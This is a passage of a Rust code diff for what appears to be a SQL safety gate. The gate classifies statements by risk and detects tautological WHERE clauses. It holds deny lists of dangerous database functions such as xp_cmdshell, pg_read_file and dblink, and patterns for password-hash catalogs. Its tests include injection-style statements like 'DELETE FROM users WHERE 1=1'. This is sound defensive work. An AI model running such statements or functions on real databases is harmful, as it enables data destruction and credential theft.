+                        out.push(Token::Whitespace(Whitespace::Space));
+                    }
+                    t => out.push(t),
+                }
+            }
+            tokens = out;
+        }
+    }
+    // Nesting is checked on the tokens, so the parser never meets it.
+    let mut depth = 0usize;
+    for t in &tokens {
+        match t {
+            Token::LParen | Token::LBracket | Token::LBrace => {
+                depth += 1;
+                if depth > MAX_DEPTH {
+                    found.stmts.push(Stmt::new(Class::Other, "other"));
+                    found.unclassified = Some("too deeply nested to classify");
+                    return Some(Reading {
+                        failed: Vec::new(),
+                        tokens: None,
+                    });
+                }
+            }
+            Token::RParen | Token::RBracket | Token::RBrace => depth = depth.saturating_sub(1),
+            // Clauses the grammar may not model but the engine runs:
+            // `SELECT … INTO OUTFILE`, `LOAD DATA INFILE`.
+            Token::Word(w) if w.quote_style.is_none() => {
+                let v = w.value.to_ascii_uppercase();
+                if matches!(v.as_str(), "OUTFILE" | "DUMPFILE" | "INFILE") {
+                    found.stmts.push(Stmt::new(Class::Privilege, "other"));
+                }
+            }
+            _ => {}
+        }
+    }
+    // Each statement is parsed alone, so one the grammar refuses does not
+    // hide the others: the engine runs them one after another.
+    let options = ParserOptions::new()
+        .with_trailing_commas(false)
+        .with_unescape(true);
+    let options = ParserOptions {
+        // T-SQL runs `SELECT 1 DROP TABLE t` as two statements.
+        require_semicolon_stmt_delimiter: engine != Engine::MsSql,
+        ..options
+    };
+    let mut failed = Vec::new();
+    for chunk in tokens.split(|t| *t == Token::SemiColon) {
+        if chunk.iter().all(|t| matches!(t, Token::Whitespace(_))) {
+            continue;
+        }
+        if operators(chunk) > MAX_OPERATORS {
+            found.stmts.push(unparsed(chunk).max_other());
+            found.unclassified = Some("too large to classify");
+            continue;
+        }
+        let parsed = Parser::new(dialect)
+            .with_options(options.clone())
+            .with_recursion_limit(MAX_DEPTH * 4)
+            .with_tokens(chunk.to_vec())
+            .parse_statements();
+        match parsed {
+            Ok(stmts) if !stmts.is_empty() => {
+                for s in &stmts {
+                    classify(s, found);
+                }
+            }
+            // Not a statement this grammar knows: unknown is not safe.
+            _ => failed.push(unparsed(chunk)),
+        }
+    }
+    Some(Reading {
+        failed,
+        tokens: compare.then_some(tokens),
+    })
+}
+
+/// Tokens that join expressions or queries into a chain: every operator,
+/// and the keywords that act as one.
+fn operators(chunk: &[Token]) -> usize {
+    chunk
+        .iter()
+        .filter(|t| match t {
+            Token::Whitespace(_)
+            | Token::Number(..)
+            | Token::SingleQuotedString(_)
+            | Token::DoubleQuotedString(_)
+            | Token::NationalStringLiteral(_)
+            | Token::EscapedStringLiteral(_)
+            | Token::DollarQuotedString(_)
+            | Token::Comma
+            | Token::Period
+            | Token::LParen
+            | Token::RParen => false,
+            Token::Word(w) => {
+                use sqlparser::keywords::Keyword as W;
+                w.quote_style.is_none()
+                    && matches!(
+                        w.keyword,
+                        W::AND
+                            | W::OR
+                            | W::XOR
+                            | W::NOT
+                            | W::IS
+                            | W::IN
+                            | W::LIKE
+                            | W::ILIKE
+                            | W::RLIKE
+                            | W::REGEXP
+                            | W::SIMILAR
+                            | W::BETWEEN
+                            | W::UNION
+                            | W::INTERSECT
+                            | W::EXCEPT
+                            | W::MINUS
+                            | W::COLLATE
+                            | W::AT
+                            | W::DIV
+                            | W::MOD
+                            | W::ESCAPE
+                    )
+            }
+            _ => true,
+        })
+        .count()
+}
+
+/// SQLite pragmas that only describe the schema or check it.
+fn describing_pragma(name: &str) -> bool {
+    matches!(
+        name,
+        "table_info"
+            | "table_xinfo"
+            | "table_list"
+            | "index_info"
+            | "index_xinfo"
+            | "index_list"
+            | "foreign_key_list"
+            | "foreign_key_check"
+            | "integrity_check"
+            | "quick_check"
+            | "function_list"
+            | "pragma_list"
+            | "collation_list"
+            | "database_list"
+            | "compile_options"
+    )
+}
+
+/// A statement the grammar does not parse: `other`, or what its leading
+/// words say when that is worse (`DROP …`, `GRANT …`, `CREATE USER …`);
+/// its WHERE, if any, is not trusted.
+fn unparsed(chunk: &[Token]) -> Stmt {
+    let words: Vec<String> = chunk
+        .iter()
+        .filter(|t| !matches!(t, Token::Whitespace(_)))
+        .take(4)
+        .map(|t| match t {
+            Token::Word(w) if w.quote_style.is_none() => w.value.to_ascii_uppercase(),
+            _ => String::new(),
+        })
+        .collect();
+    let first = words.first().map(String::as_str).unwrap_or("");
+    let principal = words
+        .iter()
+        .skip(1)
+        .any(|w| matches!(w.as_str(), "USER" | "ROLE" | "LOGIN"));
+    // `PRAGMA table_info(users)`: the grammar wants a literal in the
+    // parentheses, SQLite takes a name.
+    let significant: Vec<&Token> = chunk
+        .iter()
+        .filter(|t| !matches!(t, Token::Whitespace(_)))
+        .collect();
+    if let [Token::Word(p), Token::Word(n), Token::LParen, Token::Word(_) | Token::SingleQuotedString(_), Token::RParen] =
+        significant.as_slice()
+    {
+        if p.value.eq_ignore_ascii_case("pragma")
+            && describing_pragma(&n.value.to_ascii_lowercase())
+        {
+            return Stmt::new(Class::Read, "other");
+        }
+    }
+    match first {
+        "DROP" | "TRUNCATE" | "PURGE" => Stmt::new(Class::Destructive, "ddl"),
+        "DELETE" => Stmt::new(Class::Destructive, "delete"),
+        "UPDATE" => Stmt::new(Class::Destructive, "update"),
+        "GRANT" | "REVOKE" | "DENY" => Stmt::new(Class::Privilege, "other"),
+        "CREATE" | "ALTER" if principal => Stmt::new(Class::Privilege, "ddl"),
+        _ => Stmt::new(Class::Other, "other"),
+    }
+}
+
+fn classify(s: &Statement, found: &mut Found) {
+    // `EXPLAIN` without `ANALYZE` only plans the statement; `EXPLAIN
+    // (ANALYZE …)` runs it, whatever the option's argument says.
+    if let Statement::Explain {
+        analyze: false,
+        statement,
+        options,
+        ..
+    } = s
+    {
+        let runs = options.as_ref().is_some_and(|o| {
+            o.iter()
+                .any(|u| u.name.value.eq_ignore_ascii_case("analyze"))
+        });
+        if runs {
+            let _ = s.visit(&mut Walker { found });
+            return;
+        }
+        let mut inner = Found::default();
+        classify(statement, &mut inner);
+        let kind = inner.stmts.first().map(|s| s.kind).unwrap_or("other");
+        found.stmts.push(Stmt::new(Class::Read, kind));
+        for t in inner.tables {
+            found.table(t);
+        }
+        return;
+    }
+    let _ = s.visit(&mut Walker { found });
+}
+
+struct Walker<'a> {
+    found: &'a mut Found,
+}
+
+impl Visitor for Walker<'_> {
+    type Break = ();
+
+    fn pre_visit_statement(&mut self, s: &Statement) -> ControlFlow<()> {
+        self.found.stmts.push(statement(s));
+        match s {
+            Statement::Drop { names, .. } => {
+                for n in names {
+                    self.found.table(object_name(n));
+                }
+            }
+            Statement::Truncate(t) => {
+                for n in &t.table_names {
+                    self.found.table(object_name(&n.name));
+                }
+            }
+            _ => {}
+        }
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_select(&mut self, s: &Select) -> ControlFlow<()> {
+        // `SELECT … INTO new_table` creates and fills a table.
+        if s.into.is_some() {
+            self.found.stmts.push(Stmt::new(Class::Write, "insert"));
+        }
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_relation(&mut self, name: &ObjectName) -> ControlFlow<()> {
+        // Catalogs that hold password hashes and connection secrets.
+        let parts = n_parts(name);
+        let last = parts.last().map(String::as_str).unwrap_or("");
+        let schema = parts.len().checked_sub(2).and_then(|i| parts.get(i));
+        let secret = matches!(
+            last,
+            "pg_shadow"
+                | "pg_authid"
+                | "pg_user_mapping"
+                | "pg_user_mappings"
+                | "sql_logins"
+                | "syslogins"
+                | "sysxlogins"
+                | "linked_logins"
+        ) || (last == "user" && schema.is_some_and(|s| s == "mysql"));
+        if secret {
+            self.found.stmts.push(Stmt::new(Class::Privilege, "select"));
+        }
+        self.found.table(object_name(name));
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_table_factor(&mut self, t: &TableFactor) -> ControlFlow<()> {
+        // Table functions: `SELECT * FROM dblink(…)`, `FROM pg_ls_dir(…)`.
+        let name = match t {
+            TableFactor::Table {
+                name,
+                args: Some(_),
+                ..
+            } => Some(name),
+            TableFactor::Function { name, .. } => Some(name),
+            _ => None,
+        };
+        if let Some(c) = name.and_then(function_class) {
+            self.found.stmts.push(Stmt::new(c, "other"));
+        }
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_expr(&mut self, e: &Expr) -> ControlFlow<()> {
+        if let Expr::Function(f) = e {
+            if let Some(c) = function_class(&f.name) {
+                self.found.stmts.push(Stmt::new(c, "other"));
+            }
+        }
+        ControlFlow::Continue(())
+    }
+}
+
+/// `Public.Users` → `public.users`; quoted parts as written.
+fn object_name(n: &ObjectName) -> String {
+    let mut out = String::new();
+    for (i, p) in n.0.iter().enumerate() {
+        if i > 0 {
+            out.push('.');
+        }
+        match p {
+            ObjectNamePart::Identifier(id) if id.quote_style.is_none() => {
+                out.push_str(&id.value.to_lowercase())
+            }
+            ObjectNamePart::Identifier(id) => out.push_str(&id.value),
+            other => out.push_str(&other.to_string().to_lowercase()),
+        }
+    }
+    out
+}
+
+/// Functions with effects beyond reading rows, wherever they are called
+/// (`SELECT f(…)`, `FROM f(…)`, `CALL f(…)`, `EXEC f …`), by the last part
+/// of their name, lowercase; Oracle's packages by their first part.
+fn function_class(name: &ObjectName) -> Option<Class> {
+    let parts: Vec<String> = n_parts(name);
+    let last = parts.last().map(String::as_str).unwrap_or("");
+    let first = parts.first().map(String::as_str).unwrap_or("");
+    if first.starts_with("utl_") || first.starts_with("dbms_") || last == "httpuritype" {
+        // Oracle: network, files, jobs, dynamic SQL.
+        return Some(Class::Privilege);
+    }
+    Some(match last {
+        // Run a program or arbitrary SQL the gate cannot see, or write
+        // files on the server.
+        "xp_cmdshell"
+        | "sp_oacreate"
+        | "sp_oamethod"
+        | "sp_execute_external_script"
+        | "sp_executesql"
+        | "sys_exec"
+        | "sys_eval"
+        | "dblink_exec"
+        | "dblink"
+        | "dblink_send_query"
+        | "dblink_open"
+        | "dblink_fetch"
+        | "lo_export"
+        | "lo_unlink"
+        | "load_extension"
+        | "writefile"
+        | "edit"
+        | "fts3_tokenizer"
+        | "pg_file_write"
+        | "pg_file_unlink"
+        | "pg_file_rename"
+        | "pg_file_sync"
+        | "query_to_xml"
+        | "query_to_xml_and_xmlschema"
+        | "query_to_xmlschema"
+        | "cursor_to_xml"
+        | "openquery"
+        | "openrowset"
+        | "opendatasource"
+        | "pg_drop_replication_slot"
+        | "pg_promote"
+        | "xp_regwrite"
+        | "xp_regdeletekey"
+        | "xp_regdeletevalue"
+        | "xp_servicecontrol" => Class::Destructive,
+        // Read server files, reach the network, change settings, end
+        // other sessions.
+        "pg_read_file"
+        | "pg_read_binary_file"
+        | "pg_ls_dir"
+        | "pg_stat_file"
+        | "pg_ls_logdir"
+        | "pg_ls_waldir"
+        | "pg_ls_tmpdir"
+        | "pg_ls_archive_statusdir"
+        | "lo_import"
+        | "load_file"
+        | "readfile"
+        | "set_config"
+        | "pg_terminate_backend"
+        | "pg_cancel_backend"
+        | "pg_reload_conf"
+        | "pg_rotate_logfile"
+        | "pg_switch_wal"
+        | "pg_create_restore_point"
+        | "pg_backup_start"
+        | "pg_backup_stop"
+        | "pg_start_backup"
+        | "pg_stop_backup"
+        | "pg_logdir_ls"
+        | "xp_regread"
+        | "xp_dirtree"
+        | "xp_fileexist"
+        | "xp_subdirs"
+        | "xp_availablemedia"
+        | "sp_configure"
+        | "sp_addlogin"
+        | "sp_addsrvrolemember"
+        | "sp_password"
+        | "pg_create_logical_replication_slot"
+        | "pg_create_physical_replication_slot"
+        | "pg_replication_origin_create" => Class::Privilege,
+        // Write without a write statement.
+        "nextval" | "setval" | "lo_create" | "lo_creat" | "lo_put" | "lo_write"
+        | "lo_from_bytea" | "lo_truncate" => Class::Write,
+        // Hold the database for as long as the caller likes.
+        "pg_sleep" | "pg_sleep_for" | "pg_sleep_until" | "sleep" | "benchmark" | "dbms_lock" => {
+            Class::Other
+        }
+        _ => return None,
+    })
+}
+
+fn n_parts(name: &ObjectName) -> Vec<String> {
+    name.0
+        .iter()
+        .map(|p| match p {
+            ObjectNamePart::Identifier(id) => id.value.to_lowercase(),
+            other => other.to_string().to_lowercase(),
+        })
+        .collect()
+}
+
+/// `SET` statements that change who the session is or what protects the
+/// data; the rest (time zone, names, transaction modes, …) are control.
+fn set_class(s: &sqlparser::ast::Set) -> Class {
+    use sqlparser::ast::Set;
+    match s {
+        Set::SetRole { .. } | Set::SetSessionAuthorization(_) => return Class::Privilege,
+        Set::SetTransaction { .. } | Set::SetTimeZone { .. } | Set::SetNames { .. } => {
+            return Class::Control
+        }
+        _ => {}
+    }
+    let text = s.to_string().to_ascii_lowercase();
+    const RISKY: &[&str] = &[
+        "global",
+        "persist",
+        "role",
+        "session_authorization",
+        "session_replication_role",
+        "sql_log_bin",
+        "foreign_key_checks",
+        "unique_checks",
+        "local_infile",
+        "secure_file_priv",
+        "general_log",
+        "slow_query_log",
+        "log_statement",
+        "allow_system_table_mods",
+        "lo_compat_privileges",
+        "read_only",
+        "row_security",
+        "search_path",
+        "password",
+        "writable_schema",
+        "trusted_schema",
+        "xact_abort",
+    ];
+    if RISKY.iter().any(|r| text.contains(r)) {
+        Class::Privilege
+    } else {
+        Class::Control
+    }
+}
+
+/// The class and kind of one statement, by what its own verb does; what it
+/// nests is visited on its own.
+fn statement(s: &Statement) -> Stmt {
+    use Class::*;
+    let (class, kind) = match s {
+        Statement::Query(q) => {
+            return Stmt {
+                class: Read,
+                kind: "select",
+                has_where: query_where(q),
+            }
+        }
+        Statement::Insert(i) => {
+            if i.overwrite {
+                (Destructive, "insert")
+            } else {
+                (Write, "insert")
+            }
+        }
+        Statement::Update(u) => {
+            let w = real_where(u.selection.as_ref());
+            return Stmt {
+                class: if w { Write } else { Destructive },
+                kind: "update",
+                has_where: w,
+            };
+        }
+        Statement::Delete(d) => {
+            let w = real_where(d.selection.as_ref());
+            return Stmt {
+                class: if w { Write } else { Destructive },
+                kind: "delete",
+                has_where: w,
+            };
+        }
+        Statement::Merge(_) => (Write, "update"),
+        Statement::Copy { to, target, .. } => match target {
+            CopyTarget::Program { .. } => (Destructive, "other"),
+            CopyTarget::File { .. } => (Privilege, if *to { "select" } else { "insert" }),
+            CopyTarget::Stdin => (Write, "insert"),
+            CopyTarget::Stdout => (Read, "select"),
+        },
+        Statement::LoadData { .. } => (Privilege, "insert"),
+        Statement::Truncate(_)
+        | Statement::Drop { .. }
+        | Statement::DropFunction(_)
+        | Statement::DropDomain(_)
+        | Statement::DropProcedure { .. }
+        | Statement::DropSecret { .. }
+        | Statement::DropPolicy(_)
+        | Statement::DropRule(_)
+        | Statement::DropConnector { .. }
+        | Statement::DropExtension(_)
+        | Statement::DropOperator(_)
+        | Statement::DropOperatorFamily(_)
+        | Statement::DropOperatorClass(_)
+        | Statement::DropTrigger(_) => (Destructive, "ddl"),
+        Statement::AlterTable(a) => {
+            let ops: Vec<String> = a
+                .operations
+                .iter()
+                .map(|o| o.to_string().to_ascii_uppercase())
+                .collect();
+            if ops.iter().any(|o| o.contains("OWNER TO")) {
+                (Privilege, "ddl")
+            } else if ops
+                .iter()
+                .any(|o| o.starts_with("DROP") || o.contains("TRUNCATE"))
+            {
+                (Destructive, "ddl")
+            } else {
+                (Schema, "ddl")
+            }
+        }
+        Statement::AlterRole { .. }
+        | Statement::AlterUser(_)
+        | Statement::CreateRole(_)
+        | Statement::CreateUser(_)
+        | Statement::CreatePolicy(_)
+        | Statement::AlterPolicy(_)
+        | Statement::CreateUserMapping(_)
+        | Statement::CreateServer(_)
+        | Statement::CreateForeignDataWrapper(_)
+        | Statement::CreateSecret { .. }
+        | Statement::AlterDefaultPrivileges(_)
+        // Code the database runs as itself.
+        | Statement::CreateFunction(_)
+        | Statement::AlterFunction(_)
+        | Statement::CreateProcedure { .. }
+        | Statement::CreateTrigger(_)
+        | Statement::CreateExtension(_)
+        | Statement::CreateMacro { .. }
+        | Statement::CreateOperator(_)
+        | Statement::CreateAggregate(_)
+        | Statement::CreateRule(_) => (Privilege, "ddl"),
+        Statement::Grant(_)
+        | Statement::GrantRole(_)
+        | Statement::Deny(_)
+        | Statement::Revoke(_)
+        | Statement::RevokeRole(_)
+        | Statement::Kill { .. }
+        | Statement::AttachDatabase { .. } => (Privilege, "other"),
+        // `CREATE OR REPLACE TABLE` drops the table it replaces.
+        Statement::CreateTable(t) if t.or_replace => (Destructive, "ddl"),
+        Statement::CreateTable(_)
+        | Statement::CreateView(_)
+        | Statement::CreateIndex(_)
+        | Statement::CreateVirtualTable { .. }
+        | Statement::CreateSchema { .. }
+        | Statement::CreateDatabase { .. }
+        | Statement::CreateSequence { .. }
+        | Statement::CreateType { .. }
+        | Statement::CreateDomain(_)
+        | Statement::CreateCollation(_)
+        | Statement::CreateTextSearch(_)
+        | Statement::CreateForeignTable(_)
+        | Statement::AlterSchema(_)
+        | Statement::AlterIndex { .. }
+        | Statement::AlterView(_)
+        | Statement::AlterType(_)
+        | Statement::AlterCollation(_)
+        | Statement::AlterTrigger(_)
+        | Statement::Comment { .. }
+        | Statement::RenameTable(_) => (Schema, "ddl"),
+        Statement::RefreshMaterializedView(_) => (Write, "other"),
+        Statement::Set(set) => (set_class(set), "other"),
+        Statement::StartTransaction { .. }
+        | Statement::Commit { .. }
+        | Statement::Rollback { .. }
+        | Statement::Savepoint { .. }
+        | Statement::ReleaseSavepoint { .. }
+        | Statement::Use(_)
+        | Statement::Discard { .. }
+        | Statement::Declare { .. }
+        | Statement::Fetch { .. }
+        | Statement::Close { .. }
+        | Statement::Deallocate { .. }
+        | Statement::Prepare { .. }
+        | Statement::Analyze(_)
+        | Statement::Vacuum(_)
+        | Statement::Reset(_)
+        | Statement::Lock(_)
+        | Statement::LockTables { .. }
+        | Statement::UnlockTables
+        | Statement::LISTEN { .. }
+        | Statement::UNLISTEN { .. }
+        | Statement::NOTIFY { .. } => (Control, "other"),
+        Statement::ShowFunctions { .. }
+        | Statement::ShowVariable { .. }
+        | Statement::ShowStatus { .. }
+        | Statement::ShowVariables { .. }
+        | Statement::ShowCreate { .. }
+        | Statement::ShowColumns { .. }
+        | Statement::ShowCatalogs { .. }
+        | Statement::ShowDatabases { .. }
+        | Statement::ShowProcessList { .. }
+        | Statement::ShowSchemas { .. }
+        | Statement::ShowCharset(_)
+        | Statement::ShowObjects(_)
+        | Statement::ShowTables { .. }
+        | Statement::ShowViews { .. }
+        | Statement::ShowCollation { .. }
+        | Statement::ExplainTable { .. }
+        // `EXPLAIN ANALYZE`: the statement it runs is visited on its own.
+        | Statement::Explain { .. } => (Read, "other"),
+        // `PRAGMA x = v` and `PRAGMA x(v)` set, except the pragmas that
+        // only describe the schema.
+        Statement::Pragma {
+            name, value, is_eq, ..
+        } => {
+            let n = n_parts(name);
+            let describes = n.last().is_some_and(|p| describing_pragma(p));
+            if value.is_none() || (describes && !*is_eq) {
+                (Read, "other")
+            } else {
+                (Other, "other")
+            }
+        }
+        // A procedure or prepared statement the gate cannot see.
+        Statement::Call(f) => (function_class(&f.name).unwrap_or(Other).max(Other), "other"),
+        Statement::Execute { name, .. } => (
+            name.as_ref()
+                .and_then(function_class)
+                .unwrap_or(Other)
+                .max(Other),
+            "other",
+        ),
+        _ => (Other, "other"),
+    };
+    Stmt::new(class, kind)
+}
+
+/// A SELECT's own WHERE (the first SELECT of its body), folded.
+fn query_where(q: &Query) -> bool {
+    match q.body.as_ref() {
+        SetExpr::Select(s) => real_where(s.selection.as_ref()),
+        _ => false,
+    }
+}
+
+/// A WHERE that some row can fail: present, and not a tautology.
+fn real_where(e: Option<&Expr>) -> bool {
+    e.is_some_and(|e| !tautology(e, 0))
+}
+
+/// A constant, as the engines compare them.
+#[derive(Clone, Debug, PartialEq)]
+enum K {
+    Bool(bool),
+    Num(f64),
+    Str(String),
+    Null,
+}
+
+impl K {
+    /// Whether a row with this condition is kept (`None`: unknown). MySQL
+    /// reads a string as the number it starts with.
+    fn truthy(&self) -> Option<bool> {
+        match self {
+            K::Bool(b) => Some(*b),
+            K::Num(n) => Some(*n != 0.0),
+            K::Null => Some(false),
+            K::Str(s) => {
+                let t = s.trim().to_ascii_lowercase();
+                match t.as_str() {
+                    "t" | "true" | "y" | "yes" | "on" => Some(true),
+                    "f" | "false" | "n" | "no" | "off" => Some(false),
+                    // MySQL reads the number a string starts with
+                    // (`'1abc'` is 1); a string with none is 0.
+                    _ => {
+                        let end = t
+                            .char_indices()
+                            .find(|(i, c)| {
+                                !(c.is_ascii_digit() || *c == '.' || (*i == 0 && "+-".contains(*c)))
+                            })
+                            .map(|(i, _)| i)
+                            .unwrap_or(t.len());
+                        t.get(..end)
+                            .and_then(|p| p.parse::<f64>().ok())
+                            .map(|n| n != 0.0)
                     }
                 }
-                w
             }
-        });
+        }
     }
-    worst.unwrap_or(Analysis {
-        class: Class::Other,
-        kind: "other",
-        destructive: false,
-        has_where: false,
-        tables: Vec::new(),
+
+    fn num(&self) -> Option<f64> {
+        match self {
+            K::Num(n) => Some(*n),
+            K::Bool(b) => Some(if *b { 1.0 } else { 0.0 }),
+            K::Str(s) => s.trim().parse().ok(),
+            K::Null => None,
+        }
+    }
+}
+
+/// Folding depth: expressions are bounded by the parser anyway.
+const FOLD_DEPTH: usize = 64;
+
+/// The constant value of `e`, when it has one.
+fn fold(e: &Expr, d: usize) -> Option<K> {
+    if d > FOLD_DEPTH {
+        return None;
+    }
+    Some(match e {
+        Expr::Value(v) => match &v.value {
+            Value::Number(n, _) => K::Num(
+                match n.strip_prefix("0x").or_else(|| n.strip_prefix("0X")) {
+                    Some(h) => i64::from_str_radix(h, 16).ok()? as f64,
+                    None => n.parse().ok()?,
+                },
+            ),
+            // MySQL's `0x1` and `X'01'` are numbers in a condition.
+            Value::HexStringLiteral(h) => K::Num(u64::from_str_radix(h, 16).ok()? as f64),
+            Value::Boolean(b) => K::Bool(*b),
+            Value::Null => K::Null,
+            Value::SingleQuotedString(s)
+            | Value::DoubleQuotedString(s)
+            | Value::NationalStringLiteral(s)
+            | Value::EscapedStringLiteral(s) => K::Str(s.clone()),
+            _ => return None,
+        },
+        Expr::Nested(e) | Expr::Cast { expr: e, .. } => return fold(e, d + 1),
+        Expr::UnaryOp { op, expr } => {
+            let v = fold(expr, d + 1)?;
+            match op {
+                UnaryOperator::Not => match v {
+                    K::Null => K::Null,
+                    v => K::Bool(!v.truthy()?),
+                },
+                UnaryOperator::Minus => K::Num(-v.num()?),
+                UnaryOperator::Plus => K::Num(v.num()?),
+                _ => return None,
+            }
+        }
+        Expr::IsNull(e) => K::Bool(fold(e, d + 1)? == K::Null),
+        Expr::IsNotNull(e) => K::Bool(fold(e, d + 1)? != K::Null),
+        Expr::IsTrue(e) => K::Bool(fold(e, d + 1)?.truthy()?),
+        Expr::IsNotTrue(e) => K::Bool(!fold(e, d + 1)?.truthy()?),
+        Expr::IsFalse(e) => match fold(e, d + 1)? {
+            K::Null => K::Bool(false),
+            k => K::Bool(!k.truthy()?),
+        },
+        Expr::IsNotFalse(e) => match fold(e, d + 1)? {
+            K::Null => K::Bool(true),
+            k => K::Bool(k.truthy()?),
+        },
+        Expr::Between {
+            expr,
+            negated,
+            low,
+            high,
+        } => {
+            let (x, l, h) = (
+                fold(expr, d + 1)?.num()?,
+                fold(low, d + 1)?.num()?,
+                fold(high, d + 1)?.num()?,
+            );
+            K::Bool((l <= x && x <= h) != *negated)
+        }
+        Expr::In {
+            expr,
+            target: InTarget::List(list),
+            negated,
+            ..
+        } => {
+            let x = fold(expr, d + 1)?;
+            let mut hit = false;
+            for i in list {
+                hit |= equal(&x, &fold(i, d + 1)?)?;
+            }
+            K::Bool(hit != *negated)
+        }
+        Expr::BinaryOp { left, op, right } => {
+            let l = fold(left, d + 1);
+            let r = fold(right, d + 1);
+            match op {
+                BinaryOperator::And => {
+                    let (a, b) = (l.and_then(|v| v.truthy()), r.and_then(|v| v.truthy()));
+                    match (a, b) {
+                        (Some(false), _) | (_, Some(false)) => K::Bool(false),
+                        (Some(true), Some(true)) => K::Bool(true),
+                        _ => return None,
+                    }
+                }
+                BinaryOperator::Or => {
+                    let (a, b) = (l.and_then(|v| v.truthy()), r.and_then(|v| v.truthy()));
+                    match (a, b) {
+                        (Some(true), _) | (_, Some(true)) => K::Bool(true),
+                        (Some(false), Some(false)) => K::Bool(false),
+                        _ => return None,
+                    }
+                }
+                _ => {
+                    let (l, r) = (l?, r?);
+                    if l == K::Null || r == K::Null {
+                        return Some(if *op == BinaryOperator::Spaceship {
+                            K::Bool(l == r)
+                        } else {
+                            K::Null
+                        });
+                    }
+                    match op {
+                        BinaryOperator::Eq | BinaryOperator::Spaceship => K::Bool(equal(&l, &r)?),
+                        BinaryOperator::NotEq => K::Bool(!equal(&l, &r)?),
+                        BinaryOperator::Lt
+                        | BinaryOperator::Gt
+                        | BinaryOperator::LtEq
+                        | BinaryOperator::GtEq => {
+                            let o = order(&l, &r)?;
+                            K::Bool(match op {
+                                BinaryOperator::Lt => o.is_lt(),
+                                BinaryOperator::Gt => o.is_gt(),
+                                BinaryOperator::LtEq => o.is_le(),
+                                _ => o.is_ge(),
+                            })
+                        }
+                        BinaryOperator::Plus => K::Num(l.num()? + r.num()?),
+                        BinaryOperator::Minus => K::Num(l.num()? - r.num()?),
+                        BinaryOperator::Multiply => K::Num(l.num()? * r.num()?),
+                        BinaryOperator::Divide if r.num()? != 0.0 => K::Num(l.num()? / r.num()?),
+                        BinaryOperator::Modulo if r.num()? != 0.0 => K::Num(l.num()? % r.num()?),
+                        BinaryOperator::StringConcat => match (l, r) {
+                            (K::Str(a), K::Str(b)) => K::Str(a + &b),
+                            _ => return None,
+                        },
+                        _ => return None,
+                    }
+                }
+            }
+        }
+        _ => return None,
     })
+}
+
+fn equal(a: &K, b: &K) -> Option<bool> {
+    match (a, b) {
+        (K::Str(x), K::Str(y)) => Some(x == y),
+        (K::Null, _) | (_, K::Null) => None,
+        _ => Some(a.num()? == b.num()?),
+    }
+}
+
+fn order(a: &K, b: &K) -> Option<std::cmp::Ordering> {
+    match (a, b) {
+        (K::Str(x), K::Str(y)) => Some(x.cmp(y)),
+        _ => a.num()?.partial_cmp(&b.num()?),
+    }
+}
+
+/// A condition every row meets: a true constant, or the same expression
+/// compared with itself (`id = id`), `LIKE '%'`, `x IS NULL OR x IS NOT
+/// NULL`, `x IN (x, …)`, combined with AND and OR.
+fn tautology(e: &Expr, d: usize) -> bool {
+    if d > FOLD_DEPTH {
+        return false;
+    }
+    if fold(e, d).and_then(|k| k.truthy()) == Some(true) {
+        return true;
+    }
+    match e {
+        Expr::Nested(e) => tautology(e, d + 1),
+        Expr::BinaryOp { left, op, right } => match op {
+            BinaryOperator::Or => {
+                tautology(left, d + 1)
+                    || tautology(right, d + 1)
+                    || matches!((left.as_ref(), right.as_ref()),
+                        (Expr::IsNull(a), Expr::IsNotNull(b)) | (Expr::IsNotNull(a), Expr::IsNull(b)) if a == b)
+            }
+            BinaryOperator::And => tautology(left, d + 1) && tautology(right, d + 1),
+            BinaryOperator::Eq
+            | BinaryOperator::GtEq
+            | BinaryOperator::LtEq
+            | BinaryOperator::Spaceship => left == right,
+            _ => false,
+        },
+        Expr::Like {
+            negated: false,
+            pattern,
+            ..
+        }
+        | Expr::ILike {
+            negated: false,
+            pattern,
+            ..
+        } => {
+            matches!(fold(pattern, d + 1), Some(K::Str(p)) if !p.is_empty() && p.chars().all(|c| c == '%'))
+        }
+        Expr::In {
+            expr,
+            target: InTarget::List(list),
+            negated: false,
+            ..
+        } => list.iter().any(|i| i == expr.as_ref()),
+        Expr::IsNotNull(e) => fold(e, d + 1).is_some_and(|k| k != K::Null),
+        // `EXISTS (SELECT 1)`: a query without FROM or WHERE has a row.
+        Expr::Exists {
+            negated: false,
+            subquery,
+        } => matches!(subquery.body.as_ref(),
+            SetExpr::Select(s) if s.from.is_empty() && s.selection.is_none() && s.having.is_none()),
+        _ => false,
+    }
 }
 
 #[cfg(test)]
@@ -751,6 +1300,10 @@ mod tests {
 
     fn class(s: &str) -> &'static str {
         analyze(s).class.name()
+    }
+
+    fn class_as(s: &str, e: Engine) -> &'static str {
+        analyze_for(s, Some(e)).class.name()
     }
 
     #[test]
@@ -767,7 +1320,10 @@ mod tests {
         assert_eq!(class("SELECT \"delete\" FROM t -- DROP TABLE t"), "read");
         assert_eq!(class("SELECT 1 /* ; DROP TABLE t; */"), "read");
         assert_eq!(class("SELECT * FROM t FOR UPDATE"), "read");
-        assert_eq!(class("SELECT $$ DROP TABLE t $$"), "read");
+        assert_eq!(
+            class_as("SELECT $$ DROP TABLE t $$", Engine::Postgres),
+            "read"
+        );
         let a = analyze("SELECT * FROM users WHERE id = 1");
         assert_eq!(a.kind, "select");
         assert!(a.has_where);
@@ -781,7 +1337,10 @@ mod tests {
         assert_eq!(class("DELETE FROM sessions WHERE expires < now()"), "write");
         assert_eq!(class("INSERT INTO t (a) VALUES (1)"), "write");
         assert_eq!(
-            class("INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 2"),
+            class_as(
+                "INSERT INTO t VALUES (1) ON CONFLICT (a) DO UPDATE SET b = 2",
+                Engine::Postgres
+            ),
             "write"
         );
         for s in [
@@ -794,12 +1353,38 @@ mod tests {
             "DELETE FROM users WHERE id = 5 OR 1 = 1",
             "DELETE FROM users WHERE 'a' = 'a'",
             "UPDATE t SET a = 1 WHERE (1)",
-            "DELETE FROM t USING (SELECT id FROM u WHERE x = 1) s",
+            "DELETE FROM users WHERE 1=1 AND 2=2",
+            "DELETE FROM users WHERE 2>1",
+            "DELETE FROM users WHERE NOT 0",
+            "DELETE FROM users WHERE 1",
+            "DELETE FROM users WHERE id = id",
+            "DELETE FROM users WHERE name LIKE '%'",
+            "DELETE FROM users WHERE 3 BETWEEN 1 AND 5",
